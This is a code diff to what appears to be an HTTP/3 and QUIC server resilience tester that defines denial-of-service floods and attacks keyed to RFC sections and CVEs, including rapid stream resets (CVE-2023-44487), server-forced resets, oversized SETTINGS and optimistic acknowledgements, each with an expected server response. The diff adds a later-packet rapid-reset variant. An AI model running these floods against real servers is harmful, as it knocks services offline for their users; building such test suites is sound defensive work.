@@ -61,7 +61,7 @@ def numbered(make):
 
 
 def pieces(start, step=2):
-    """Returns a flood that sends one byte in two of a POST's body, so that none can be delivered."""
+    """Returns a flood that sends one byte of each step of a POST's body: none can be delivered."""
     def run(connect):
         it = connect()
         it.probe()
@@ -106,8 +106,18 @@ def of_streams(make, most=20_000, after=None):
     return run
 
 
+def later_reset(path):
+    """Returns the function that begins a request and cancels it with its next packet."""
+    def make(it):
+        stream = it.get(path)
+        it.link.quic.reset_stream(stream, 0x10c)
+        it.link.quic.stop_stream(stream, 0x10c)
+        it.link.step(0)
+    return make
+
+
 def reset(it):
-    """Begins a request and cancels it (CVE-2023-44487)."""
+    """Begins a request and cancels it in the same packet (CVE-2023-44487)."""
     stream = it.link.quic.get_next_available_stream_id()
     it.link.quic._get_or_create_stream_for_send(stream)
     data = it.head("GET", "/large.bin")
@@ -298,15 +308,16 @@ FLOODS = [
     ("100,000 settings", "9114 10.5", many_settings),
     ("priorities of streams to come", "9218 7.2", control_frames(
         lambda number: frame(h3.PRIORITY_UPDATE, varint(4 * number + 400) + b"u=1"))),
-    ("priorities of one stream", "9218 7.2",
-     control_frames(lambda number: frame(h3.PRIORITY_UPDATE, varint(400) + b"u=%d" % (number % 8)))),
+    ("priorities of one stream", "9218 7.2", control_frames(
+        lambda number: frame(h3.PRIORITY_UPDATE, varint(400) + b"u=%d" % (number % 8)))),
     ("priorities of 15 KB", "9218 7.2", control_frames(
         lambda number: frame(h3.PRIORITY_UPDATE, varint(400) + b"a" * 15_000), count=1000)),
     ("MAX_PUSH_ID", "9114 10.5",
      control_frames(lambda number: frame(h3.MAX_PUSH_ID, varint(number)))),
     ("empty unknown frames on the control stream", "9114 10.5",
      control_frames(lambda _: frame(h3.GREASE))),
-    ("empty unknown frames on a request", "9114 10.5", request_frames(frame(h3.GREASE) * 2000, 100)),
+    ("empty unknown frames on a request", "9114 10.5",
+     request_frames(frame(h3.GREASE) * 2000, 100)),
     ("empty DATA", "9114 10.5", request_frames(frame(h3.DATA) * 2000, 100)),
     ("DATA of one byte", "9114 10.5", request_frames(frame(h3.DATA, b"x") * 2000, 50)),
     ("SETTINGS of 2^60 bytes", "9114 10.5", growing(h3.SETTINGS, b"", "first of control")),
@@ -327,9 +338,15 @@ FLOODS = [
 ATTACKS = [
     *(Attack(name, section, HOLDS, run) for name, section, run in FLOODS),
     Attack("rapid resets", "9114 10.5, CVE-2023-44487", ENDS, of_streams(reset)),
+    Attack("rapid resets of files", "9114 10.5, CVE-2023-44487", ENDS,
+           of_streams(later_reset("/large.bin"), most=5000)),
+    Attack("rapid resets of an application", "9114 10.5, CVE-2023-44487", ENDS,
+           of_streams(later_reset("/app/wait"), most=5000)),
     Attack("requests that the server must reset", "9114 10.5, CVE-2025-8671", ENDS,
            of_streams(made_reset, most=5000)),
     Attack("optimistic acknowledgements", "9000 21.4, 13.1",
-           Expectation("closes with 0xa PROTOCOL_VIOLATION", lambda outcome: outcome.closed is not
-                       None and outcome.closed["code"] in (0xa, 0x1)), optimistic),
+           # The client's socket can be too full for the CONNECTION_CLOSE. A reset follows then.
+           Expectation("closes with 0xa PROTOCOL_VIOLATION, or a stateless reset",
+                       lambda outcome: outcome.closed is not None and outcome.closed["by"] ==
+                       "server" and outcome.closed["code"] in (0xa, 0x1, None)), optimistic),
 ]
